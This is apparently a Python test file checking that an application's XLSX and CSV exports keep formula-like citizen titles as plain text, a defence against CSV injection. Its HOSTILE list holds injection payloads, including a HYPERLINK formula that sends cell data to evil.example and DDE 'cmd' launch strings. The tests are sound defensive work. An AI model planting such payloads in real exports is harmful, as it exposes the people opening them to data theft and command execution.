"""Exports carry citizens' text: a title written like a spreadsheet formula must stay text in every
file the program writes (OWASP's CSV injection), with its words unchanged."""
from __future__ import annotations

import csv
import io
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update

from engine.core import records
from engine.core.actors import ANONYMOUS
from engine.features import delivery
from engine.features.funds import allocate
from engine.output import delivery_files
from engine.output.cells import FORMULA_STARTS, csv_value, looks_like_formula, write_csv
from engine.output.ledger import ledger_xlsx
from engine.output.xlsx import write_sheet
from engine.store.tables import Record
from tests.test_delivery import CONGRESS, D, under_way
from tests.test_funds import AUDITOR, DAY, FINANCE, funded_pool

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"查看详情")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells_of(data: bytes) -> list[tuple]:
    """Every cell of the first sheet as (value, openpyxl's data type)."""
    sheet = load_workbook(io.BytesIO(data)).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


def excel_text(value: str) -> str:
    """A cell's text as Excel shows it: OOXML writes a control character as _xHHHH_."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def no_formula_in(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_neutral_cell_rules():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert all(looks_like_formula(h) for h in HOSTILE)
    assert not looks_like_formula("修建便民桥") and not looks_like_formula(-5) and not looks_like_formula(None)
    assert csv_value("=1+1") == "'=1+1" and csv_value("桥") == "桥" and csv_value(3) == 3
    out = io.BytesIO()
    assert write_sheet(out, ["标题", "金额"], [[h, -100] for h in HOSTILE]) == len(HOSTILE)
    assert no_formula_in(out.getvalue())
    got = cells_of(out.getvalue())
    # the words kept exactly, a carriage return too (stored as _x000D_, which Excel reads back)
    assert [excel_text(v) for v, _ in got[2::2]] == HOSTILE
    assert all(kind == "s" for _, kind in got[2::2]) and got[3] == (-100, "n")  # numbers stay numbers


def test_a_hostile_title_from_the_public_form_stays_text_in_the_ledger_and_the_list(rt, good_suggestion):
    ids = [records.submit(rt, ANONYMOUS, "suggestion", dict(good_suggestion, title=title + "修路")).id
           for title in HOSTILE[:2]]
    with rt.db.transaction() as session:
        session.execute(update(Record).where(Record.id.in_(ids)).values(state="chosen"))
    pool = funded_pool(rt)
    for record_id in ids:
        allocate(rt, FINANCE, pool, record_id, "1000", DAY)
    out = io.BytesIO()
    ledger_xlsx(rt, AUDITOR, pool, ["no", "date", "kind", "source", "project", "amount", "payee", "purpose",
                                    "approver", "voucher", "reverses", "by", "at"], out)
    assert no_formula_in(out.getvalue())
    titles = [v for v, kind in cells_of(out.getvalue()) if isinstance(v, str) and v.endswith("修路")]
    assert titles == [HOSTILE[0] + "修路", HOSTILE[1] + "修路"]

    under_way(rt, good_suggestion, [("竣工", "2025-10-31")], title=HOSTILE[0] + "修桥")
    headings = delivery.responsibility_headings(rt, D, "项目名称", "乡镇", "里程碑节点")
    listing = io.BytesIO()
    delivery_files.responsibility_xlsx(rt, CONGRESS, D, headings, listing)
    assert no_formula_in(listing.getvalue())
    assert (HOSTILE[0] + "修桥", "s") in cells_of(listing.getvalue())


def test_csv_files_keep_text():
    out = io.StringIO()
    assert write_csv(out, ["行号 row", "原因 reason"], [(7, "=cmd|' /C calc'!A0"), (8, "@SUM(1)"), (9, "好")]) == 3
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert table[1:] == [["7", "'=cmd|' /C calc'!A0"], ["8", "'@SUM(1)"], ["9", "好"]]
